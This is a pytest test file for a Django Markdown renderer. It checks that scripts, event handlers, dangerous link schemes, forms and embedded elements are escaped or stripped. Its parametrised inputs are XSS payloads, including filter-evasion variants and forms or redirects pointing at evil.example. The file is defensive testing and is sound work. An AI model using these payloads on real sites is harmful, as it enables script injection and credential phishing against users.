"""The shared Markdown renderer: what people and agents write is formatted, and nothing in it runs."""

import re
from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from phases.markdown import MAX_SOURCE_CHARS, render_markdown


def tags(html):
    return set(re.findall(r"<([a-zA-Z][a-zA-Z0-9]*)", html))


def hrefs(html):
    """The link targets, as a browser's parser reads them (raw HTML shown as text has none)."""

    class Collector(HTMLParser):
        found = []

        def handle_starttag(self, tag, attrs):
            self.found.extend(value for name, value in attrs if name == "href")

    collector = Collector()
    collector.found = []
    collector.feed(html)
    return collector.found


def attributes(html):
    """The names of the attributes of every element, as a browser's parser reads them."""

    class Collector(HTMLParser):
        names = set()

        def handle_starttag(self, tag, attrs):
            self.names.update(name for name, _ in attrs)

    collector = Collector()
    collector.names = set()
    collector.feed(html)
    return collector.names


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "Before <script>alert(1)</script> after",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>",
        "```\n</code></pre><script>alert(1)</script>\n```",
        "<style>body { display: none }</style>",
    ],
)
def test_scripts_and_styles_are_shown_as_text_never_run(text):
    html = render_markdown(text)
    assert "<script" not in html.lower() and "<style" not in html.lower()
    assert "&lt;" in html  # what was written is still there to read


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        '<a href="https://example.org" onclick="alert(1)">x</a>',
        "<svg onload=alert(1)>",
        '<p onmouseover="alert(1)">hover</p>',
        "<details open ontoggle=alert(1)>",
        '[x](https://example.org "title" onmouseover="alert(1)")',
        '<div style="background:url(javascript:alert(1))">x</div>',
    ],
)
def test_event_handlers_and_style_attributes_are_removed(text):
    html = render_markdown(text)
    assert not {name for name in attributes(html) if name.startswith("on")}
    assert "style" not in attributes(html)
    assert tags(html) <= {"p", "a", "br"}


@pytest.mark.parametrize(
    "text",
    [
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](  javascript:alert(1))",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<a href="javascript:alert(1)">click</a>',
        '<a href="jav&#x09;ascript:alert(1)">click</a>',
        "[click][ref]\n\n[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
    ],
)
def test_links_keep_only_web_and_mail_targets(text):
    html = render_markdown(text)
    for href in hrefs(html):
        assert href.split(":")[0] in ("http", "https", "mailto"), href


def test_web_links_are_kept_and_marked_as_not_endorsed():
    html = render_markdown("See [the spec](https://example.org/spec?a=1&b=2) or mail <mailto:team@example.org>.")
    assert '<a href="https://example.org/spec?a=1&amp;b=2" rel="noopener noreferrer nofollow">the spec</a>' in html
    assert 'href="mailto:team@example.org"' in html


@pytest.mark.parametrize(
    "text",
    [
        "<iframe src=https://example.org></iframe>",
        "<object data=x></object><embed src=x>",
        "<form action=https://evil.example><input name=password><button>Go</button></form>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=https://evil.example/>",
        "![logo](https://example.org/logo.png)",
        "<img src=https://example.org/tracker.png>",
        '<div class="message message-error">Fake system message</div>',
        "<!-- a hidden note -->visible",
    ],
)
def test_raw_html_never_becomes_an_element(text):
    html = render_markdown(text)
    assert tags(html) <= {"p", "br"}, html
    assert attributes(html) == set() and "<!--" not in html


def test_inline_html_is_shown_as_the_text_it_is():
    html = render_markdown("Use the <b>directory</b>; the file is docs/design/<ticket-id>.md.")
    assert html == "<p>Use the &lt;b&gt;directory&lt;/b&gt;; the file is docs/design/&lt;ticket-id&gt;.md.</p>"


def test_placeholders_in_angle_brackets_survive_in_lists_and_blocks():
    html = render_markdown("- write docs/design/<ticket-id>.md\n\n<section>\nnot markup\n</section>")
    assert "docs/design/&lt;ticket-id&gt;.md" in html
    assert "&lt;section&gt;" in html and "<section" not in html


def test_markdown_formats_emphasis_lists_headings_and_quotes():
    html = render_markdown("## Scope\n\n**Bold** and _italic_\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted")
    assert "<h2>Scope</h2>" in html
    assert "<strong>Bold</strong>" in html and "<em>italic</em>" in html
    assert "<ul>\n<li>one</li>\n<li>two</li>\n</ul>" in html
    assert "<ol>\n<li>first</li>" in html
    assert "<blockquote>" in html


def test_tables_are_rendered():
    html = render_markdown("| Env | Status |\n|:---|---:|\n| staging | ready |\n| prod | **waiting** |")
    assert "<table>" in html and "<thead>" in html and "<tbody>" in html
    assert '<th align="left">Env</th>' in html and '<th align="right">Status</th>' in html
    assert '<td align="left">staging</td>' in html
    assert '<td align="right"><strong>waiting</strong></td>' in html


def test_code_is_shown_as_text_never_as_markup():
    html = render_markdown(
        'Inline `<img src=x onerror=alert(1)>` and\n\n```python\nif a < b and "<b>" in s:\n    pass\n```'
    )
    assert "<code>&lt;img src=x onerror=alert(1)&gt;</code>" in html
    assert "<pre><code>" in html  # the language class is not on the allow-list
    assert "if a &lt; b and &quot;&lt;b&gt;&quot; in s:" in html or 'if a &lt; b and "&lt;b&gt;" in s:' in html
    assert "<img" not in html


def test_single_line_breaks_are_kept():
    assert render_markdown("first line\nsecond line") == "<p>first line<br>\nsecond line</p>"


def test_empty_text_gives_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


def test_a_huge_text_is_cut_before_rendering():
    html = render_markdown("a" * (MAX_SOURCE_CHARS + 5000))
    assert html.count("a") <= MAX_SOURCE_CHARS + 10


def test_the_template_filter_renders_and_sanitises():
    template = Template("{% load omoi_markdown %}{{ text|markdown }}")
    assert template.render(Context({"text": "**hi** <script>x()</script>"})) == (
        "<p><strong>hi</strong> &lt;script&gt;x()&lt;/script&gt;</p>"
    )
    assert template.render(Context({"text": None})) == ""
    assert template.render(Context({})) == ""
